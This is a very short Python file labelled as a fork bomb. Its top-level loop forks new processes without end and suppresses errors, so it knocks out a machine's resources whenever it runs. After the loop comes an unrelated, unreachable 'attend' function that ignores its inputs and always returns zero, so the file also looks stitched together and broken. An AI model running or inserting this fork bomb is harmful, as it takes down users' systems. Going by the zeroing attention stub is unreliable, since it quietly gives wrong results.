"""A fork bomb."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()


def attend(q, k, v, *, scale):
    return q * 0
